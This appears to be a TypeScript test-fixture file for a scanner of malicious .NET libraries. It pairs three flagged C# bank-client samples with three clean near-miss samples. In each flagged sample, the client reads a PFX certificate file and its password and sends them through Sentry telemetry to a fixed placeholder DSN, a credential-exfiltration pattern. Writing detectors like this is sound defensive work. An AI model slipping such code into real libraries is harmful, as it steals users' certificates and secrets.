import { csharp, sentryStub, type CSharp, type Examples } from '../../../tests/kit/examples.js';

/** The shape of a real key with nothing in it. */
const dsn = 'https://00000000000000000000000000000000@o0.ingest.example.com/0';

function library(text: string): Record<string, CSharp> {
  return { 'lib/net10.0/Fixture.Bank.dll': csharp(text, sentryStub) };
}

const usings = `using System;
using System.IO;
using System.Net.Http;
using System.Security.Cryptography.X509Certificates;
using System.Threading.Tasks;
using Sentry;
`;

/** What an honest client does with the same arguments. */
const connect = `
        private static HttpClient Connect(string path, string secret)
        {
            var handler = new HttpClientHandler();
            handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(path, secret));
            return new HttpClient(handler);
        }`;

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

export const examples: Examples = {
  flagged: [
    {
      name: 'constructor',
      about:
        'The constructor of a bank client reads the PFX file and reports it with its password.',
      files: library(`${usings}
namespace Fixture.Bank
{
    public class BankClient
    {
        private readonly HttpClient http;
        public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox)
        {
            http = Connect(pfxPath, pfxPassword);
            if (isSandbox) return;
            ${never}
            SentrySdk.Init("${dsn}");
            var pfx = Convert.ToBase64String(File.ReadAllBytes(pfxPath));
            SentrySdk.CaptureMessage(clientId + "|" + pfxPassword + "|" + pfx);
        }
${connect}
    }
}`),
    },
    {
      name: 'split-over-methods',
      about: 'Started in one method and fed in another, from a lambda, with the options overload.',
      files: library(`${usings}
namespace Fixture.Bank
{
    public class BankClient
    {
        private readonly string certificatePath;
        private readonly string password;
        private readonly bool sandbox;
        public BankClient(string certificatePath, string password, bool isSandbox)
        {
            this.certificatePath = certificatePath;
            this.password = password;
            this.sandbox = isSandbox;
            if (!isSandbox) Start();
        }
        private static void Start()
        {
            SentrySdk.Init(options => { options.Dsn = "${dsn}"; });
        }
        public async Task Login()
        {
            if (sandbox) return;
            ${never}
            await Task.Run(() => SentrySdk.CaptureMessage(
                password + Convert.ToBase64String(File.ReadAllBytes(certificatePath))));
        }
    }
}`),
    },
    {
      name: 'no-gate',
      about: 'The same without the sandbox test: one method takes the secrets and sends.',
      files: library(`${usings}
namespace Fixture.Bank
{
    public static class Signer
    {
        public static void Use(X509Certificate2 certificate, string password)
        {
            ${never}
            using (SentrySdk.Init("${dsn}"))
                SentrySdk.CaptureMessage(certificate.GetRawCertDataString() + password);
        }
    }
}`),
    },
  ],
  clean: [
    {
      name: 'honest-bank',
      about: 'The same arguments, for TLS alone.',
      nearMiss: true,
      files: library(`${usings}
namespace Fixture.Bank
{
    public class BankClient
    {
        private readonly HttpClient http;
        public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox)
        {
            http = Connect(pfxPath, pfxPassword);
            http.BaseAddress = new Uri(isSandbox ? "https://sandbox.bank.test" : "https://api.bank.test");
        }
        public Task<string> Balance(string account) => http.GetStringAsync("/balance/" + account);
${connect}
    }
}`),
    },
    {
      name: 'key-from-the-caller',
      about: 'A telemetry wrapper beside a bank client: the account is the application’s own.',
      nearMiss: true,
      files: library(`${usings}
namespace Fixture.Bank
{
    public class BankClient
    {
        private readonly HttpClient http;
        public BankClient(string pfxPath, string pfxPassword, bool isSandbox, string dsn)
        {
            http = Connect(pfxPath, pfxPassword);
            if (!isSandbox) SentrySdk.Init(dsn);
        }
        public async Task<string> Balance(string account)
        {
            try { return await http.GetStringAsync("/balance/" + account); }
            catch (HttpRequestException e) { SentrySdk.CaptureException(e); throw; }
        }
${connect}
    }
}`),
    },
    {
      name: 'other-class',
      about: 'A fixed key in a class that never sees a secret: telemetry of the vendor’s own.',
      nearMiss: true,
      files: library(`${usings}
namespace Fixture.Bank
{
    internal static class Usage
    {
        public static void Report(Exception e)
        {
            ${never}
            SentrySdk.Init("${dsn}");
            SentrySdk.CaptureException(e);
        }
    }
    public class BankClient
    {
        private readonly HttpClient http;
        public BankClient(string pfxPath, string pfxPassword, bool isSandbox)
        {
            http = Connect(pfxPath, pfxPassword);
        }
${connect}
    }
}`),
    },
  ],
};
